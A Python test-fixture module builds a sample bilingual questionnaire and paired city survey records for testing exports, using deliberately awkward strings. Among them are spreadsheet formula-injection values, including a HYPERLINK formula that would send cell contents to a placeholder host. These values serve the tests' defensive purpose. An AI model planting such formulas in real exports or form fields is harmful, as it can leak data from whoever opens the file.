"""Builders shared by the export tests: a small questionnaire with every answerable type
and awkward texts, and pair records full of the strings that break exports."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime
from typing import Any

from survey.core.questionnaire import CompareRule, Option, Question, Questionnaire, Section
from survey.exports.layouts import PairRecord, SideRecord

SIDES = ("us", "cn")
FORMULAS = (
    '=HYPERLINK("http://x?"&A1,"x")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
)
AWKWARD = (
    "城市之间的交流：互信（一）😀",
    "姊妹市關係「臺灣」，全形標點！",
    'she said "hello", then left',
    "two\r\nlines, and a comma",
    "一\n二",
    *FORMULAS,
)
LONG_CJK = "友好城市之间的人员交流与经贸合作" * 10  # 160 characters, 480 bytes in UTF-8


def text(en: str, hans: str = "", hant: str = "") -> dict[str, str]:
    return {"en": en, "zh-Hans": hans or f"{en}（简）", "zh-Hant": hant or f"{en}（繁）"}


def _q(key: str, type_: str, rule: CompareRule | None, **extra: Any) -> Question:
    return Question(key=key, type=type_, text=text(f"Question {key}?"), compare=rule, **extra)


def questionnaire() -> Questionnaire:
    """One question of each answerable type (plus a note), a mirror pair and long labels."""
    options = (
        Option("trade", text("Trade", "贸易", "貿易")),
        Option("education", text("Education", "教育", "教育")),
        Option("long", text("Long label", LONG_CJK, LONG_CJK)),
    )
    scale = tuple(Option(str(n), text(f"Point {n}", f"{n}分", f"{n}分")) for n in range(1, 6))
    questions = (
        _q("kind", "single", CompareRule("exact"), options=options),
        _q("areas", "multi", CompareRule("overlap", 0.5), options=options),
        _q("agreement", "yesno", CompareRule("exact")),
        _q("trust", "scale", CompareRule("none"), options=scale),
        _q("sent", "integer", CompareRule("tolerance", 1), mirror="received"),
        _q("received", "integer", CompareRule("tolerance", 1), mirror="sent"),
        _q("budget", "number", CompareRule("tolerance", 0.1, True)),
        _q("founded", "year", CompareRule("exact"), relevant="${agreement} = 'yes'"),
        _q("visit", "date", CompareRule("within_days", 31)),
        _q("note", "note", None),
        _q("account", "text", CompareRule("review"), dont_know=False, refused=False),
        Question(
            key="story",
            type="longtext",
            text=text("Tell the story " + "at length " * 30, LONG_CJK, LONG_CJK),
            compare=CompareRule("none"),
        ),
    )
    section = Section("main", text("Main", "主要", "主要"), questions)
    return Questionnaire(
        "exports-test",
        "1",
        ("en", "zh-Hans", "zh-Hant"),
        text("Export test", "导出测试"),
        (section,),
    )


ANSWERS: tuple[dict[str, Any], ...] = (
    {
        "kind": "trade", "areas": ["trade", "long"], "agreement": "yes", "trust": "4",
        "sent": 3, "received": -2, "budget": 1.5, "founded": 1985, "visit": "2008-05-01",
        "account": AWKWARD[0], "story": LONG_CJK * 20,
    },
    {
        "kind": "dk", "areas": "rf", "agreement": "no", "trust": "rf", "sent": "dk",
        "received": 0, "budget": 123456.75, "founded": "rf", "visit": "dk",
        "account": FORMULAS[0], "story": "",
    },
    {},  # answered nothing yet
)  # fmt: skip


def records(count: int = 6) -> Iterator[PairRecord]:
    """`count` pairs cycling through ANSWERS and AWKWARD names; the last pair's second
    side has not answered at all."""
    when = datetime(2009, 3, 8, 7, 30, tzinfo=UTC)
    for n in range(count):
        sides = tuple(
            SideRecord(
                side=side,
                place_en=f"City {n} {side}",
                place_zh=AWKWARD[(n + i) % len(AWKWARD)],
                region="华东",
                organization=FORMULAS[(n + i) % len(FORMULAS)],
                respondent=f"Person {n}{side}",
                email=f"p{n}{side}@example.org",
                language=("en", "zh-Hans")[i],
                mode="web",
                state="submitted",
                submitted_at=when,
                answers=None if n == count - 1 and i else dict(ANSWERS[(n + i) % len(ANSWERS)]),
            )
            for i, side in enumerate(SIDES)
        )
        outcomes = {
            "kind": (("agree", "disagree", "missing")[n % 3], "open" if n % 3 == 1 else None),
            "sent": ("disagree", "explained"),
            "account": ("review", None),
        }
        yield PairRecord(f"pair-{n}", "city", 1980 + n, {"note": f"n{n}"}, sides, outcomes)  # type: ignore[arg-type]
